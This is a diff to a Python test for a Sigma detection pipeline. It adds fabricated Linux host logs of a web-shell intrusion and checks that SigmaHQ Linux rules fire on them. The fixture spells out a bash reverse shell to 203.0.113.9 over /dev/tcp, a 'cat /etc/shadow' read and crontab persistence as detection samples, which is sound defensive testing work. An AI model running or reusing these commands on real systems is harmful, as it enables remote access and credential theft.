@@ -5,6 +5,9 @@ The corpus (real SigmaHQ rules of every log source the range may meet) is read i
 A rule counts as *mapped* unless its only problem is a log source the pipeline does not map
 (Cisco, FortiGate, Windows, Zeek logs the range does not record...). Of the mapped ones at least
 95% must load, convert and run against a small real store; the rest are listed with the reason.
+The Linux rules (rules/linux, rules-threat-hunting/linux: process_creation, file_event,
+network_connection, auditd and the builtin service logs) are counted on their own: at least 95%
+of all of them must run on the host tables.
 """
 from __future__ import annotations
 
@@ -48,8 +51,61 @@ def corpus_store(path: Path) -> Path:
     s.add("ftp", [{"ts": T0 + 9, **ident(31, dp=21), "user": "anonymous", "command": "RETR", "arg": "/pub/x"}])
     s.add("telnet", [{"ts": T0 + 10, **ident(32, dp=23), "direction": "orig", "line": "ls"}])
     s.add("arp", [{"ts": T0 + 11, "operation": "request", "id.orig_h": "10.1.0.1", "id.resp_h": "10.1.0.2"}])
+    host_records(s)
     s.close()
     return path
+
+
+def host_records(s: EventStore) -> None:
+    """A web shell on the portal (nginx's www-data running discovery commands, a reverse shell, a
+    crontab for persistence, /etc/shadow read) and an SSH password guess on the file server, as
+    the nodes would log them."""
+    web, shell = "portal", {"host": "portal", "User": "www-data", "CurrentDirectory": "/var/www/html",
+                            "ParentProcessId": 812, "ParentImage": "/usr/sbin/nginx",
+                            "ParentCommandLine": "nginx: worker process"}
+    s.add("process_creation", [
+        {"ts": T0 + 20, "ProcessId": 4101, "Image": "/usr/bin/dash", "CommandLine": "sh -c id", **shell},
+        {"ts": T0 + 20.01, "ProcessId": 4102, "Image": "/usr/bin/id", "CommandLine": "id", **shell,
+         "ParentProcessId": 4101, "ParentImage": "/usr/bin/dash", "ParentCommandLine": "sh -c id"},
+        {"ts": T0 + 21, "ProcessId": 4103, "Image": "/bin/uname", "CommandLine": "uname -a", **shell},
+        {"ts": T0 + 22, "ProcessId": 4104, "Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow", **shell},
+        {"ts": T0 + 23, "ProcessId": 4105, "Image": "/usr/bin/bash",
+         "CommandLine": "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", **shell},
+        {"ts": T0 + 24, "host": "files", "ProcessId": 700, "Image": "/usr/bin/tar", "User": "backup",
+         "CommandLine": "tar czf /srv/backup/home.tgz /home", "ParentImage": "/usr/sbin/cron",
+         "ParentProcessId": 690, "CurrentDirectory": "/var/backups"},
+    ])
+    s.add("network_connection", [
+        {"ts": T0 + 23.1, "host": web, "ProcessId": 4105, "Image": "/usr/bin/bash", "User": "www-data",
+         "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.1.1.5", "SourcePort": 51234,
+         "DestinationIp": "203.0.113.9", "DestinationPort": 4444},
+    ])
+    s.add("file_event", [
+        {"ts": T0 + 25, "host": web, "ProcessId": 4106, "Image": "/usr/bin/crontab", "User": "www-data",
+         "TargetFilename": "/var/spool/cron/crontabs/www-data"},
+    ])
+    s.add("syslog", [
+        {"ts": T0 + 25.1, "host": web, "facility": "cron", "severity": "info", "program": "crontab", "pid": 4106,
+         "message": "(www-data) REPLACE (www-data)"},
+        {"ts": T0 + 23.2, "host": web, "facility": "user", "severity": "notice", "program": "bash", "pid": 4105,
+         "message": "HISTORY: PID=4105 UID=33 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
+        {"ts": T0 + 26, "host": "files", "facility": "auth", "severity": "info", "program": "sshd", "pid": 2211,
+         "message": "Failed password for root from 203.0.113.9 port 40022 ssh2"},
+        {"ts": T0 + 27, "host": "files", "facility": "authpriv", "severity": "notice", "program": "sudo",
+         "message": "  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
+         "USER": "root", "TTY": "pts/0", "PWD": "/home/alice", "COMMAND": "/usr/bin/apt update"},
+    ])
+    s.add("auditd", [
+        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "SYSCALL", "SYSCALL": "execve", "success": "yes",
+         "exit": 0, "pid": 4102, "ppid": 4101, "auid": 4294967295, "euid": 33, "comm": "id", "exe": "/usr/bin/id",
+         "key": "detect_execve_www"},
+        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "EXECVE", "argc": 1, "a0": "id"},
+        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "CWD", "cwd": "/var/www/html"},
+        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "PATH", "name": "/usr/bin/id", "nametype": "NORMAL"},
+    ])
+
+
+LINUX = [CORPUS / "rules" / "linux", CORPUS / "rules-threat-hunting" / "linux"]
 
 
 def test_sigmahq_corpus_runs(tmp_path, capsys):
@@ -79,8 +135,19 @@ def test_sigmahq_corpus_runs(tmp_path, capsys):
             print(f"  unmapped log source ({src}): {n} rules")
         for w in rs.warnings:
             print(f"  warning {Path(w['file']).relative_to(CORPUS)}: {w['message']}")
+    linux = [str(f) for f in rule_files(LINUX)]
+    linux_ran = [f for f in linux if f in loaded and f not in failed and f not in unmapped]
+    with capsys.disabled():
+        print(f"SigmaHQ Linux rules: {len(linux_ran)} of {len(linux)} ran "
+              f"({100 * len(linux_ran) / max(len(linux), 1):.1f}%)")
+        for f in linux:
+            if f not in linux_ran:
+                why = failed.get(f) or [e["message"] for e in errors if e["file"] == f] or ["did not load"]
+                print(f"  LINUX FAILED {Path(f).relative_to(CORPUS)}: {' / '.join(why)}")
     assert not unmapped & loaded
     assert len(ran) >= 0.95 * len(mapped), failed
+    assert len(linux) >= 200, f"the SigmaHQ Linux rules are missing under {LINUX[0]}"
+    assert len(linux_ran) >= 0.95 * len(linux), {f: failed.get(f) for f in linux if f not in linux_ran}
     # failures are reported cleanly: every one names its file and gives a reason
     assert all(e["file"] and e["message"] for e in errors)
 
@@ -90,6 +157,27 @@ def test_sigmahq_corpus_runs(tmp_path, capsys):
     assert "ede05abc-2c9e-4624-9944-9ff17fdc0bf5" in fired   # Zeek DNS Z bit set
     (webdav,) = [a for a in alerts if a["rule_id"] == "705072a5-bb6f-4ced-95b6-ecfa6602090b"]
     assert [e["id.resp_h"] for e in webdav["events"]] == ["8.8.8.8"]   # the private target is filtered
+
+    # Linux rules on the host records made for them
+    def cmds(rule_id):
+        return sorted(e.get("CommandLine") or e.get("message") or e.get("TargetFilename") or e.get("a0")
+                      or e.get("DestinationIp") for a in alerts if a["rule_id"] == rule_id for e in a["events"])
+    # proc_creation_lnx_local_account.yml: cat of /etc/shadow (and `id`)
+    assert cmds("b45e3d6f-42c6-47d8-a478-df6bd6cf534c") == ["cat /etc/shadow", "id"]
+    # proc_creation_lnx_webshell_detection.yml: nginx's worker spawning uname and cat, one alert for the node
+    (ws,) = [a for a in alerts if a["rule_id"] == "818f7b24-0fba-4c49-a073-8b755573b9c7"]
+    assert ws["group"] == {"host": "portal"} and [e["Image"] for e in ws["events"]] == ["/bin/uname", "/usr/bin/cat"]
+    # lnx_shell_susp_rev_shells.yml (keywords over syslog's message) and the reverse shell's connection
+    assert cmds("738d9bcf-6999-4fdb-b4ac-3033037db8ab") == [
+        "HISTORY: PID=4105 UID=33 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
+    assert cmds("83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871") == ["203.0.113.9"]   # net_connection_lnx_back_connect_shell_dev
+    # persistence: the crontab file written, and cron's REPLACE line (service cron: the cron programs only)
+    assert cmds("6c4e2f43-d94d-4ead-b64d-97e53fa2bd05") == ["/var/spool/cron/crontabs/www-data"]
+    assert cmds("af202fd3-7bff-4212-a25a-fb34606cfcbe") == ["(www-data) REPLACE (www-data)"]
+    # lnx_auditd_user_discovery.yml: the EXECVE record of `id`
+    assert cmds("9a0d8ca0-2385-4020-b6c6-cb6153ca56f3") == ["id"]
+    # nothing in sshd's rule of protocol errors matches a password guess
+    assert "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc" not in fired
 
 
 def test_legacy_aggregations_are_translated_or_reported(tmp_path):
